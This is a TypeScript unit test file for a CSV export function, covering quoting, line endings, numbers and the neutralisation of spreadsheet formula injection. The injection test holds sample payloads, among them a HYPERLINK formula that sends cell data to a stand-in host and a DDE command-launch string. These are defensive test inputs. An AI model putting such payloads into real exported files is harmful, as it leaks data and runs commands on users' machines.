import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { type CsvColumn, toCsv } from "./csv";

/** A one-column CSV of the given cells: the header line, then one line per cell. */
function oneColumn(cells: (string | number | null)[]): string[] {
  const columns: CsvColumn<string | number | null>[] = [{ header: "v", value: (x) => x }];
  const out = toCsv(columns, cells);
  assert.ok(out.endsWith("\r\n"));
  return out.slice(0, -2).split("\r\n").slice(1);
}

const cellOf = (v: string | number | null) => {
  const lines = oneColumn([v]);
  assert.equal(lines.length, 1, `one line expected for ${JSON.stringify(v)} (cells with a CR LF are split by this helper)`);
  return lines[0]!;
};

describe("toCsv", () => {
  test("exact output of a two-row table", () => {
    interface Row {
      id: string;
      title: string;
      views: number;
      rate: number | null;
    }
    const columns: CsvColumn<Row>[] = [
      { header: "video_id", value: (r) => r.id },
      { header: "title", value: (r) => r.title },
      { header: "views", value: (r) => r.views },
      { header: "completion, %", value: (r) => r.rate },
    ];
    const rows: Row[] = [
      { id: "v_001", title: 'He said "hi", then left', views: 1200, rate: 0.5 },
      { id: "v_002", title: "line one\nline two", views: -3, rate: null },
    ];
    assert.equal(
      toCsv(columns, rows),
      'video_id,title,views,"completion, %"\r\n' + 'v_001,"He said ""hi"", then left",1200,0.5\r\n' + 'v_002,"line one\nline two",-3,\r\n',
    );
  });

  test("no rows: just the header line", () => {
    const columns: CsvColumn<never>[] = [
      { header: "a", value: () => null },
      { header: "b", value: () => null },
    ];
    assert.equal(toCsv(columns, []), "a,b\r\n");
  });

  test("lines end with CRLF, including the last", () => {
    const out = toCsv([{ header: "n", value: (r: number) => r }], [1, 2, 3]);
    assert.equal(out, "n\r\n1\r\n2\r\n3\r\n");
  });

  test("commas, quotes and newlines are quoted, quotes doubled", () => {
    assert.equal(cellOf("a,b"), '"a,b"');
    assert.equal(cellOf('say "x"'), '"say ""x"""');
    assert.equal(cellOf('"'), '""""');
    assert.equal(cellOf("a\nb"), '"a\nb"');
    assert.equal(toCsv([{ header: "v", value: (r: string) => r }], ["a\r\nb"]), 'v\r\n"a\r\nb"\r\n');
    assert.equal(toCsv([{ header: "v", value: (r: string) => r }], ["a\rb"]), 'v\r\n"a\rb"\r\n');
  });

  test("plain strings, unicode and empty strings are unchanged", () => {
    assert.equal(cellOf("plain text"), "plain text");
    assert.equal(cellOf("Música & Arte 🎬"), "Música & Arte 🎬");
    assert.equal(cellOf("it's"), "it's");
    assert.equal(cellOf(""), "");
    assert.equal(cellOf("a=b"), "a=b");
    assert.equal(cellOf("1-2"), "1-2");
  });

  test("null is an empty cell", () => {
    assert.equal(
      toCsv(
        [
          { header: "a", value: () => null },
          { header: "b", value: () => 1 },
        ],
        [{}],
      ),
      "a,b\r\n,1\r\n",
    );
  });

  test("numbers are written as they are, negative numbers stay numbers", () => {
    assert.equal(cellOf(0), "0");
    assert.equal(cellOf(42), "42");
    assert.equal(cellOf(1234567.89), "1234567.89");
    assert.equal(cellOf(0.125), "0.125");
    assert.equal(cellOf(-2), "-2");
    assert.equal(cellOf(-0.5), "-0.5");
  });

  test("formula injection: strings starting with = + - @ tab or CR get a leading quote", () => {
    assert.equal(cellOf("=SUM(A1)"), "'=SUM(A1)");
    assert.equal(cellOf("+1"), "'+1");
    assert.equal(cellOf("-2"), "'-2");
    assert.equal(cellOf("@x"), "'@x");
    assert.equal(cellOf("\tx"), "'\tx");
    assert.equal(toCsv([{ header: "v", value: (r: string) => r }], ["\rx"]), 'v\r\n"\'\rx"\r\n');
    // Neutralised and quoted together.
    assert.equal(cellOf("=1,2"), '"\'=1,2"');
    assert.equal(cellOf('=HYPERLINK("http://evil.example/?"&A1,"click")'), '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
    assert.equal(cellOf("-cmd|' /C calc'!A0"), "'-cmd|' /C calc'!A0");
  });

  test("headers are neutralised and quoted too", () => {
    assert.equal(
      toCsv(
        [
          { header: "=cmd", value: () => 1 },
          { header: "a,b", value: () => 2 },
        ],
        [],
      ),
      '\'=cmd,"a,b"\r\n',
    );
  });
});
